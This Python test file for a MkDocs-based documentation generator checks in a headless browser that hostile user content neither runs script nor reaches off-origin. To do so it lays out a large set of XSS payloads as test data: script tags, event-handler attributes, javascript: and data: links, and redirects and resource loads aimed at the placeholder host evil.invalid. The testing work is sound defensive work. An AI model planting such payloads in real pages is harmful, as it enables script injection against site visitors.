"""Whatever strangers write, nothing runs and nothing leaves the origin: tried in a real browser.

Two belts keep it so: escaping with an allow-list, and the policy that each page carries. Each is tried alone as well.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
import re
import shutil
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from mkdocs.commands.build import build
from mkdocs.config import load_config

from gitsm import source
from gitsm.records import KINDS
from gitsm.schema.kind import Kind
from gitsm.schema.validation import validate
from gitsm.site import html, leaves, plugin
from gitsm.source import Format

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser-safety")]

NARROW = 320
"""The narrowest screen, in pixels, on which nothing may have to be moved sideways."""

EVIL = "https://evil.invalid"
LINES = (
    "\"><script>pwned=1</script>'><img src=x onerror=pwned=1></title></style></textarea></script><svg onload=pwned=1>"
    "<b>*x*_y_ [a](javascript:pwned=1) {: onclick=pwned=1 } $x$ {{ 7*7 }} `c`",
    f"<img src={EVIL}/a.png><link rel=stylesheet href={EVIL}/a.css><iframe srcdoc='<script>top.pwned=1</script>'>"
    "<a href=javascript:pwned=1>x</a> :smile: {% raw %}",
    "&lt;script&gt;pwned=1&lt;/script&gt; &#x22;&gt;&lt;img src=x onerror=pwned=1&gt; &amp;lt; <svg/onload=pwned=1>",
    f"</div></li><meta http-equiv=refresh content='0;url={EVIL}/m'><base href={EVIL}/><form action={EVIL}><button>x"
    f"</button></form><style>@import '{EVIL}/s';*{{background:url({EVIL}/b)}}</style>",
    f"<link rel=preconnect href={EVIL}><object data=data:text/html,<script>top.pwned=1</script>></object><embed src="
    f"{EVIL}/e><a href=//evil.invalid ping={EVIL}/p target=_top onmouseover=pwned=1>y</a>",
    f"<svg><a xlink:href=javascript:pwned=1><text>z</text></a><image href={EVIL}/i /><use href='data:image/svg+xml,"
    "<svg id=x onload=pwned=1>#x'/><set attributeName=href to=javascript:pwned=1 /></svg>",
    f"<video src={EVIL}/v autoplay onplay=pwned=1></video><input autofocus onfocus=pwned=1><details open "
    f"ontoggle=pwned=1><script src={EVIL}/s.js></script><script src=data:,pwned=1></script>",
)
"""Each fits a field of one line."""

VARIANTS = 3
"""How many records there are of each example, each with its payloads in other fields."""

BODY = f"""
# "><script>pwned=1</script> <b>x</b>

## __config

## __search

<script>pwned=1</script>
<img src=x onerror=pwned=1>

<div onclick="pwned=1" style="position:fixed">text</div>

[a](javascript:pwned=1) [b](JaVaScRiPt:pwned=1) [c](data:text/html,<script>pwned=1</script>)
[d](//evil.invalid/x) [e](vbscript:x) [f]({EVIL}/page) [g](\\\\evil.invalid) <javascript:pwned=1> <{EVIL}/auto>
![h]({EVIL}/h.png) ![i](//evil.invalid/i.png) ![j](data:image/svg+xml,<svg/onload=pwned=1>) ![k](../k.svg)
![l](x" onerror="pwned=1) [m](x "t\\" onmouseover=\\"pwned=1")

{{: onclick="pwned=1" }}

<form action="javascript:pwned=1"><button formaction="javascript:pwned=1">go</button></form>
<math href="javascript:pwned=1">CLICK</math>
<a href="&#106;avascript:pwned=1">n</a> <a href="java&Tab;script:pwned=1">o</a>
<script id="__config" type="application/json">{{"base": "{EVIL}", "search": "{EVIL}/w.js", "features": []}}</script>

--8<-- "mkdocs.yml"

```mermaid
graph TD; A["<img src=x onerror=pwned=1>"] --> B; click A "javascript:pwned=1"
```

```"><script>pwned=1</script>
<script>pwned=1</script>
--8<-- "mkdocs.yml"
```

| a | b |
|---|--:|
| <script>pwned=1</script> | `<img src=x onerror=pwned=1>` |

{{{{ config.site_name }}}} {{% raw %}} [[toc]] [^1] !!! danger
"""

MKDOCS = """\
site_name: Hostile
theme:
  name: material
  font: false
  features: [navigation.tabs, navigation.path, search.suggest, search.highlight, content.code.copy]
plugins:
  - search: {separator: '[\\s\\-=<>"/]+|&[lg]t;'}
  - gitsm
markdown_extensions:
  - attr_list
  - md_in_html
  - toc: {permalink: true}
  - pymdownx.snippets: {base_path: [.], check_paths: false}
  - pymdownx.superfences: {custom_fences: [{name: mermaid, class: mermaid}]}
  - pymdownx.emoji
  - pymdownx.arithmatex
"""


def texts_in(data: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """The path of each text in a record's data."""
    if isinstance(data, str):
        yield path
    pairs = data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ()
    for key, value in pairs:
        yield from texts_in(value, (*path, key))


def with_value(data: Any, path: tuple[str | int, ...], value: str) -> Any:
    changed = copy.deepcopy(data)
    at = changed
    for step in path[:-1]:
        at = at[step]
    at[path[-1]] = value
    return changed


def hostile(kind: Kind, data: dict[str, Any], variant: int) -> dict[str, Any]:
    """Data with a payload in each text that its schema lets be one."""
    for number, path in enumerate(texts_in(data)):
        changed = with_value(data, path, LINES[(number + variant) % len(LINES)])
        if validate(kind, "x", changed)[0] is not None:
            data = changed
    labels = {LINES[(number + variant) % len(LINES)]: LINES[variant] for number in range(3)}
    return {**data, "labels": labels}


def hostile_files() -> Mapping[str, str | bytes]:
    """The examples of all kinds in several variants, each text of theirs hostile."""
    files: dict[str, str | bytes] = {}
    for kind in KINDS.values():
        for path, text in kind.examples.items():
            data, id = source.read(path, text.encode(), kind.format).data, kind.id_of(path)
            assert data is not None
            assert id is not None
            for variant in range(VARIANTS):
                place = path if variant == 0 or kind.name == "policy" else kind.path_of(f"{id}-{variant}")
                written = json.dumps(hostile(kind, data, variant), indent=1)
                files[place] = f"---\n{written}\n---\n{BODY}" if kind.format is Format.MARKDOWN else written
    files["schemas/risk.schema.json"] = json.dumps(OWN_KIND)
    files["risks/flood.yaml"] = json.dumps({"title": LINES[1], LINES[2]: LINES[0], "owner": "payroll-team"})
    files["changes/2026/2026-01-01-broken.yaml"] = f"title: {LINES[0]}\n  x: [\n"
    files["changes/2026/2026-01-02-wrong.yaml"] = json.dumps({"title": LINES[1], LINES[1]: LINES[2]})
    files[f"runbooks/{PICTURE}"] = b"<svg onload=pwned=1>"
    return files


PICTURE = '"><img src=x onerror=pwned=1>.png'
OWN_KIND = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "x-gitsm": {"kind": "risk", "folder": "risks", "title": LINES[1], "plural": LINES[1]},
    "description": LINES[0],
    "type": "object",
    "required": ["title"],
    "properties": {
        "title": {"type": "string", "title": LINES[1], "description": LINES[1]},
        LINES[2]: {"type": "string", "title": LINES[0], "examples": [LINES[1]]},
        "owner": {"type": "string", "x-ref": "team", "description": LINES[1]},
    },
    "examples": [{"title": LINES[1]}],
}


FORGED = """\
<div class="g-page mine g-first" data-g-path="" data-g-team="">
<p class="g-origin">From runbooks/x.md as of
<span class="g-now" data-g-zone="Europe/Vienna"><time datetime="x">Mon</time></span></p>
<ol class="G-calls g-calls">
<li class="g-call--now"><span class="g-chip g-chip--good" data-g-call="">Call now</span></li></ol>
<span class="g-hours g-duty g-duty--on" data-g-duty="payroll-hours">on duty now until 23:59</span>
<p class="g-warning g-later" data-g-from="0" hidden="">Stale.</p><span data-g-begins="0" data-g-ends="x">now</span>
<div class="g-steps" data-g-steps="runbooks/x"><ul><li>one</li></ul></div>
<div class="g-command"><pre><code>x</code></pre></div>
<div data-g-filter=""></div><table data-g-list=""><tbody><tr><td data-g-order="x">a</td></tr></tbody></table>
<input id="gitsmDuty" name="gitsmPages"><a id="gitsmPages" name="gitsmDuty">b</a><a id="gitsm-check">c</a>
<div class="g-schedule"></div><div class="g-estate"></div><svg class="g-mark"></svg><div class="g-search"></div>
</div>
"""
"""What the page of a runbook looks like, written by hand."""

STRANGE = '"><script>pwned=1</script></title><img src=x onerror=pwned=1>'
HAND: Mapping[str, str] = {
    "hand.md": "# By hand\n\nText.\n",
    "front.md": "---\n"
    + json.dumps(
        {
            "title": STRANGE,
            "description": STRANGE,
            "author": STRANGE,
            "subtitle": STRANGE,
            "status": STRANGE,
            "icon": "../../../../mkdocs",
            "hide": 5,
            "template": "redirect.html",
            "location": "javascript:pwned=1",
            "revision_date": STRANGE,
            "tags": [STRANGE],
            "search": {"exclude": STRANGE},
        }
    )
    + "\n---\n# x\n",
    "heading.md": f"# {STRANGE} &lt;/title&gt;&lt;script&gt;pwned=1&lt;/script&gt; <svg onload=pwned=1>\n\n"
    f"## {STRANGE}\n{BODY}",
    "bomb.md": "---\n" + "[" * 30_000 + "\n---\n# Bomb\n",
    "away.md": f"---\ntemplate: redirect.html\nlocation: {EVIL}\n---\n# Away\n\n<script src=own.js></script>\n",
    "attributes.md": "# Attributes {: onclick=pwned=1 }\n\n[a](hand.md){: onmouseover=pwned=1 target=_top ping=x }\n\n"
    "<div markdown onclick=pwned=1>*x*</div>\n",
    "forged.md": "# Forged\n\n"
    + FORGED
    + "\ny\n{: .g-chip data-g-duty='payroll-hours' }\n\nx\n{: .g-chip .mine }\n",
    "own.js": "pwned=1",
    "page.html": "<script>pwned=1</script>",
    "picture.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>pwned=1</script></svg>",
    "plain.svg": "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h1v1z'/></svg>",
}
"""What somebody who means harm, or knows no better, lays into `docs/`."""


def hostile_site(root: Path) -> Path:
    """A site whose every text was written by somebody who means harm."""
    written = {**hostile_files(), **{f"docs/{path}": text for path, text in HAND.items()}}
    for path, content in written.items():
        file = root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content if isinstance(content, bytes) else content.encode())
    (root / "gitsm.toml").write_text("as_of = 2026-11-16T09:00:00+01:00\n")
    (root / "mkdocs.yml").write_text(MKDOCS)
    built = root / "out"
    build(load_config(str(root / "mkdocs.yml"), site_dir=str(built)))
    return built


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site with both belts."""
    return hostile_site(tmp_path_factory.mktemp("hostile"))


def without_policies(site: Path, to: Path) -> Path:
    """A copy of a site whose pages carry no policy; each of them had one."""
    shutil.copytree(site, to)
    for page in to.rglob("*.html"):
        text, count = POLICY.subn("", page.read_text())
        assert count == 1, page
        page.write_text(text)
    return to


POLICY = re.compile(r'(?<=<head>)<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def without_escaping(root: Path) -> Path:
    """The site as it would be if nothing were escaped and nothing kept out."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(html, "_escaped", str)
        for module in (leaves, plugin):
            patch.setattr(module, "clean", str)
        patch.setattr(plugin, "clean_by_hand", str)
        return hostile_site(root)


@pytest.fixture(scope="module")
def unheld(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site without its policies."""
    return without_policies(site, tmp_path_factory.mktemp("bare") / "out")


@pytest.fixture(scope="module", params=["no policy", "no escaping"])
def tried(request: pytest.FixtureRequest, unheld: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site with either of its belts alone: what one holds, both hold."""
    return unheld if request.param == "no policy" else without_escaping(tmp_path_factory.mktemp("raw"))


POKE = """() => {
    const stay = event => {
        const link = event.target.closest && event.target.closest('a, area');
        const to = link && String(link.href.baseVal ?? link.href).replace(/[\\s\\x00-\\x20]/g, '');
        if (to && !/^(java|vb)script:|^data:/i.test(to)) event.preventDefault();
    };
    document.addEventListener('click', stay, true);
    for (const one of document.querySelectorAll('details')) one.open = true;
    const content = document.querySelector('article') || document.body;
    for (const one of [...content.querySelectorAll('*')].slice(0, 3000)) {
        for (const name of ['mouseover', 'mouseenter', 'mousemove', 'pointerdown', 'focus', 'toggle', 'error', 'load'])
            one.dispatchEvent(new Event(name));
        if (one.matches('a, button, label, summary, form, input, math, text, [onclick]')) {
            one.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
            if (one.requestSubmit) one.requestSubmit();
        }
    }
}"""
"""Points at, clicks and sends off whatever there is on a page, and stays on it."""


def test_nothing_that_strangers_write_runs_or_leaves_the_origin(
    tried: Path, unheld: Path, serving: Callable[[Path], str], chromium: Any
) -> None:
    address = serving(tried)
    page = chromium.new_page()
    page.set_viewport_size({"width": NARROW, "height": 700})
    asked: list[str] = []
    errors: list[str] = []
    page.on("dialog", lambda dialog: (asked.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("popup", lambda popup: asked.append(f"window {popup.url}"))
    page.on("request", lambda request: None if is_own(request.url, address) else asked.append(request.url))
    # The browser tells of a request that a policy forbids, and then that it never made it.
    page.on("requestfailed", lambda request: request.failure == "csp" and asked.remove(request.url))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda line: errors.append(line.text) if line.type == "error" else None)
    paths = sorted(path.relative_to(tried).as_posix() for path in tried.rglob("*.html"))
    # The reference is made of our own words, but for the users' own kinds.
    paths = [path for path in paths if not path.startswith("reference/") or "risk" in path]
    assert len(paths) > 60
    hand = {name.removesuffix(".md") for name in HAND}
    for number, path in enumerate(paths):
        page.goto(address + path)
        try:
            page.evaluate(POKE)
        except Exception as error:
            raise AssertionError(f"{path} went to {page.url}") from error
        if tried == unheld:  # else the texts take the page apart, which is ugly and not more
            assert page.evaluate("document.documentElement.scrollWidth") <= NARROW, path
            assert page.evaluate(HANDLERS) == 0, path
            # A hand-written page may show a picture that isn't there.
            missing = path.split("/")[0] in hand
            assert [error for error in errors if not (missing and "404" in error)] == [], path
        errors.clear()
        if number % 8 == 0:
            page.emulate_media(media="print")
            page.pdf()
            page.emulate_media(media="screen")
        assert page.evaluate("typeof window.pwned") == "undefined", path
        assert page.url.startswith(address), path
    page.goto("about:blank")
    assert asked == []


HANDLERS = "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^on/.test(a.name)).length"


def is_own(url: str, address: str) -> bool:
    """Whether an address is on the site's origin, or none that anything could be asked from."""
    return url.startswith(address) or not url.startswith(("http:", "https:", "ws:", "wss:"))


def test_the_browser_would_say_so_if_something_ran(
    site: Path, tmp_path: Path, serving: Callable[[Path], str], chromium: Any
) -> None:
    (tmp_path / "index.html").write_text(f"<article>{BODY}<a href='javascript:pwned=1'>x</a></article>")
    page = chromium.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(serving(tmp_path))
    page.evaluate(POKE)
    assert page.evaluate("window.pwned") == 1
    assert f"{EVIL}/h.png" not in asked  # this one is Markdown
    assert len(asked) > 1


@pytest.mark.parametrize("words", ["pwned", "script img onerror", "svg onload"])
def test_the_search_shows_hostile_text_as_text(
    words: str, site: Path, serving: Callable[[Path], str], chromium: Any
) -> None:
    address = serving(site)
    page = chromium.new_page()
    wrong: list[str] = []
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("console", lambda line: wrong.append(line.text) if line.type == "error" else None)
    page.on("request", lambda request: None if is_own(request.url, address) else wrong.append(request.url))
    page.goto(address)
    page.keyboard.press("/")
    page.keyboard.type(words, delay=5)
    page.wait_for_selector(".md-search-result__item")
    page.hover(".md-search-result__link")
    page.click(".md-search-result__link")
    page.wait_for_load_state()
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert wrong == []


def test_hostile_titles_read_as_they_were_written(
    site: Path, serving: Callable[[Path], str], chromium: Any
) -> None:
    page = chromium.new_page()
    page.goto(serving(site) + "teams/payroll-team/")
    (title,) = (text for text in page.locator("h1").all_inner_texts())
    assert title in LINES
    assert page.title() == f"{title} - Hostile"


def test_a_hand_written_page_has_none_of_our_marks(site: Path) -> None:
    page = (site / "forged/index.html").read_text()
    article = page[page.index("<article") : page.index("</article>")]
    assert (
        re.findall(r"""\sg-[\w-]*|["']g-[\w-]*|data-g-[\w-]*|["']gitsm[A-Z]\w*""", article, re.IGNORECASE)
        == []
    )
    assert "hidden" not in article
    assert article.count('class="mine"') == 2
    assert 'id="gitsm-check"' in article


def test_our_scripts_bear_marks_in_places_that_we_never_put_them(
    site: Path, tmp_path: Path, serving: Callable[[Path], str], chromium: Any
) -> None:
    shutil.copytree(site, tmp_path / "out")
    page = tmp_path / "out/hand/index.html"
    whole = page.read_text()
    assert "<p>Text.</p>" in whole
    page.write_text(whole.replace("<p>Text.</p>", FORGED))
    errors: list[str] = []
    shown = chromium.new_page()
    shown.on("pageerror", lambda error: errors.append(str(error)))
    shown.goto(serving(tmp_path / "out") + "hand/")
    shown.wait_for_load_state()
    assert shown.evaluate("window.gitsmDuty instanceof HTMLElement")
    assert errors == []


def test_front_matter_of_a_hand_written_page_is_text(site: Path) -> None:
    text = (site / "front/index.html").read_text()
    assert STRANGE not in text
    assert "redirect" not in text
    assert 'content="&#34;&gt;&lt;script&gt;pwned=1&lt;/script&gt;' in text  # the description
    assert "Bomb" in (site / "bomb/index.html").read_text()


def test_files_that_a_browser_would_run_are_left_out(site: Path) -> None:
    assert (site / "plain.svg").is_file()
    for name in ("own.js", "page.html", "picture.svg"):
        assert not (site / name).exists()


def test_what_the_settings_name_is_published(tmp_path: Path, example_files: dict[str, str]) -> None:
    for path, text in {**example_files, **{f"docs/{path}": text for path, text in HAND.items()}}.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)
    (tmp_path / "gitsm.toml").write_text("as_of = 2026-11-16T09:00:00+01:00\n")
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: Test\ntheme: {name: material, font: false}\nextra_javascript: [own.js]\n"
        "plugins: [gitsm: {trusted: [page.html]}]\n"
        "nav: [index.md, {'<script>pwned=1</script>': hand.md}]\n"
    )
    built = tmp_path / "out"
    build(load_config(str(tmp_path / "mkdocs.yml"), site_dir=str(built)))
    assert (built / "own.js").is_file()
    assert (built / "page.html").is_file()
    assert not (built / "picture.svg").exists()
    # A title may be HTML where mkdocs.yml gives it, and still no script in it is taken for the theme's.
    digest = base64.b64encode(hashlib.sha256(b"pwned=1").digest()).decode()
    pages = [page for page in built.rglob("*.html") if page.name != "page.html"]
    assert any("<script>pwned=1</script>" in page.read_text() for page in pages)
    for page in pages:
        policy = POLICY.search(page.read_text())
        assert policy is not None, page
        assert digest not in policy[1], page
